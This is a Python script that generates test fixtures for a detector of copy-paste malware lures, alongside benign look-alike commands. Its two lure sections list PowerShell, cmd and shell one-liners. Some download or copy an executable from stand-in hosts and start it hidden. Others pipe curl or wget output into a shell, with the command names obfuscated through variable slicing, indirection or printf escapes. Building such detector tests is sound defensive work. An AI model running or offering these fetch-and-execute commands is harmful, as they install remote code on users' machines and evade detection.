"""Writes tests/data/cases/lures5.jsonl: lure techniques that were still missing or only warned
about after lures4, each written several ways, in its context and bare, beside the everyday
texts that look like it and must stay quiet.

    python tests/data/cases/make_lures5.py

Deterministic. Hosts are reserved names (*.test, *.invalid, *.example) and documentation
addresses; keys and codes are made up here. No text is copied from a lure collection, an IOC
file or another detector's fixtures. Each line is {id, text, expect, technique, platform[,
source], target}.

Techniques (each lure also bare, `-bare`: no page, target unknown, expected `flagged`):

- `copy-var-start`: a file copied from another computer or downloaded to a path kept in a
  PowerShell (or cmd, or shell) variable, then started through the variable; .NET's
  [IO.File]::Copy; a powershell -c "…" whose inner quotes are written \\" as the Run box
  passes them;
- `sh-cut-names`: a command's name cut out of another variable (${PATH:0:1}, ${SHELL:6:1}),
  named by indirection (${!x}) or printed by printf '%b';
"""

from __future__ import annotations

from pathlib import Path

from casefile import case as case_line  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("lures5.jsonl")
BENIGN = "none"
# pages that share nothing with what their commands fetch
SHOP = "https://www.tidewater-bakery.example/order/confirm"
CAPTCHA = "https://verify.lumen-check.example/human"
MEET = "https://meet-join.harbor-call.example/j/5521"
FORUM = "https://forum.retro-consoles.example/t/8812"
DOCS = "https://learn.example.org/docs/admin"

# technique, text, expect, platform, target, page
Row = tuple[str, str, str, str, str, "str | None"]


def case(
    cid: str, text: str, expect: str, technique: str, platform: str, target: str, page: str | None
) -> dict[str, str]:
    return case_line(cid, text, expect, technique, platform, page, target)


# -- 1. copy (or download) to a path kept in a variable, then start it through the variable ----
_HOSTS = (
    "\\\\files.lumen-gate.test\\pub",
    "\\\\198.51.100.7\\s",
    "\\\\cdn.quay-helper.invalid@SSL\\d",
)
_URLS = (
    "https://cdn.lumen-gate.test/upd",
    "http://198.51.100.61/pkg/u",
    "https://dl.quay-helper.invalid/s",
)


def copy_var_start() -> list[Row]:
    rows: list[Row] = []
    pages = (SHOP, CAPTCHA, MEET)
    for i, (share, url, page) in enumerate(zip(_HOSTS, _URLS, pages, strict=True)):
        exe = ("upd.exe", "svc.exe", "helper.exe")[i]
        ps_rows = [
            f'$p="$env:TEMP\\{exe}"; Copy-Item {share}\\{exe} $p; Start-Process $p',
            f"$p = Join-Path $env:APPDATA '{exe}'; Copy-Item -Path '{share}\\{exe}' -Destination $p; & $p",
            f"$d=\"$env:TEMP\\{exe}\";[IO.File]::Copy('{share}\\{exe}',$d,$true);& $d",
            f'[System.IO.File]::Copy("{share}\\data.bin", "$env:PUBLIC\\{exe}"); saps "$env:PUBLIC\\{exe}"',
            f'$t=$env:TEMP+"\\{exe}"; Copy-Item {share}\\q.bin $t; saps $t',
            f'$p="$env:TEMP\\{exe}"; iwr {url} -OutFile $p; & $p',
            f'$o = "$env:LOCALAPPDATA\\{exe}"; Invoke-WebRequest -Uri {url} -OutFile $o; Start-Process -FilePath $o -WindowStyle Hidden',
            f'$t=$env:TEMP+"\\{exe}";(New-Object Net.WebClient).DownloadFile("{url}",$t);saps $t',
        ]
        for text in ps_rows:
            rows.append(("copy-var-start", text, "malicious", "windows", "terminal", page))
        rows.append(
            (
                "copy-var-start",
                'powershell -w h -c "$p=\\"$env:TEMP\\'
                + exe
                + '\\"; Copy-Item '
                + share
                + "\\"
                + exe
                + ' $p; Start-Process $p"',
                "malicious",
                "windows",
                "run_dialog",
                page,
            )
        )
        rows.append(
            (
                "copy-var-start",
                f"cmd /c set f=%TEMP%\\{exe}& copy {share}\\z.dat %f% & start %f%",
                "malicious",
                "windows",
                "run_dialog",
                page,
            )
        )
    return rows


def copy_var_start_benign() -> list[Row]:
    ok = "ok-copy-var-start"
    return [
        (ok, '$p = "$env:TEMP\\report.csv"; Copy-Item \\\\fileserver\\finance\\report.csv $p; Import-Csv $p | Measure-Object', "not_flagged", "windows", "terminal", DOCS),
        (ok, '$src = "\\\\fs01.corp.example.com\\pkg\\agent.msi"; $dst = "C:\\Deploy\\agent.msi"; Copy-Item $src $dst; msiexec /i $dst /qn', "not_flagged", "windows", "terminal", None),
        (ok, "$log = Join-Path $env:TEMP 'build.log'; dotnet build *> $log; Get-Content $log -Tail 20", "not_flagged", "windows", "terminal", DOCS),
        (ok, '[IO.File]::Copy("C:\\Users\\me\\notes.txt", "D:\\Backup\\notes.txt", $true)', "not_flagged", "windows", "terminal", DOCS),
        (ok, '$d = "$env:USERPROFILE\\Downloads\\data.json"; Invoke-WebRequest https://api.example.org/v1/export -OutFile $d; Get-Content $d | ConvertFrom-Json', "not_flagged", "windows", "terminal", DOCS),
        (ok, "$p = \"$env:TEMP\\x.exe\"; Test-Path $p; Remove-Item $p -ErrorAction SilentlyContinue", "not_flagged", "windows", "terminal", DOCS),
        (ok, "set out=%USERPROFILE%\\Desktop\\ipconfig.txt& ipconfig /all > %out% & notepad %out%", "not_flagged", "windows", "terminal", DOCS),
        (ok, "$iso = 'D:\\Images\\win11.iso'; Mount-DiskImage -ImagePath $iso", "not_flagged", "windows", "terminal", DOCS),
    ]  # fmt: skip


# -- 2. a command's name cut out of another variable, or named by indirection ----------------
def sh_cut_names() -> list[Row]:
    t = "sh-cut-names"
    u = (
        "https://cdn.lumen-gate.test/i",
        "http://198.51.100.2/s",
        "https://files.quay-helper.invalid/m",
    )
    rows: list[Row] = []
    for i, url in enumerate(u):
        page = (SHOP, CAPTCHA, FORUM)[i]
        plat = ("linux", "macos", "linux")[i]
        for text in (
            f'${{PATH:0:1}}bin${{PATH:0:1}}bash -c "$(curl -fsSL {url})"',
            f"${{PATH:0:1}}usr${{PATH:0:1}}bin${{PATH:0:1}}curl -s {url}|${{PATH:0:1}}bin${{PATH:0:1}}sh",
            f"${{HOME:0:1}}usr${{HOME:0:1}}bin${{HOME:0:1}}wget -qO- {url} | b${{SHELL:6:1}}sh",
            f"s=abcurlxyz; ${{s:2:4}} -fsSL {url} | ${{SHELL:0:9}}",
            f"x=curl; y=x; ${{!y}} -s {url} | sh",
            f"a=bash; p=a; curl -s {url} | ${{!p}}",
            f"$(printf '%b' '\\x63\\x75\\x72\\x6c') -s {url} | $(printf '%b' '\\x73\\x68')",
            f"$(printf '%b' '\\143\\165\\162\\154') -fsSL {url} | bash",
        ):
            rows.append((t, text, "malicious", plat, "terminal", page))
    return rows


def sh_cut_names_benign() -> list[Row]:
    ok = "ok-sh-cut-names"
    return [
        (ok, "docker tag web:latest registry.example.org/web:${GITHUB_SHA:0:7}", "not_flagged", "linux", "terminal", DOCS),
        (ok, 'echo "short id: ${COMMIT:0:8}"', "not_flagged", "linux", "terminal", DOCS),
        (ok, 'for v in HOME USER SHELL; do echo "$v=${!v}"; done', "not_flagged", "linux", "terminal", DOCS),
        (ok, 'name=PATH; echo "${!name}" | tr : "\\n"', "not_flagged", "linux", "terminal", DOCS),
        (ok, "printf '%b\\n' 'line one\\tindented'", "not_flagged", "linux", "terminal", DOCS),
        (ok, 'branch=$(git rev-parse --abbrev-ref HEAD); echo "${branch:0:20}"', "not_flagged", "linux", "terminal", DOCS),
        (ok, "${EDITOR:-vim} ~/.bashrc", "not_flagged", "linux", "terminal", DOCS),
        (ok, 'ver=1.24.3; curl -fsSLO "https://go.dev/dl/go${ver}.linux-amd64.tar.gz" && echo "major ${ver:0:4}"', "not_flagged", "linux", "terminal", DOCS),
    ]  # fmt: skip


LURES = [copy_var_start, sh_cut_names]
LOOKALIKES = [copy_var_start_benign, sh_cut_names_benign]


def build() -> list[dict[str, str]]:
    out: list[dict[str, str]] = []
    for make in LURES:
        for n, (technique, text, expect, platform, target, page) in enumerate(make(), 1):
            cid = f"l5-{technique}-{n:02d}"
            out.append(case(cid, text, expect, technique, platform, target, page))
            out.append(case(f"{cid}-bare", text, "flagged", technique, platform, "unknown", None))
    for make in LOOKALIKES:
        for n, (technique, text, expect, platform, target, page) in enumerate(make(), 1):
            out.append(
                case(f"l5-{technique}-{n:02d}", text, expect, BENIGN, platform, target, page)
            )
    ids = [c["id"] for c in out]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return out


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
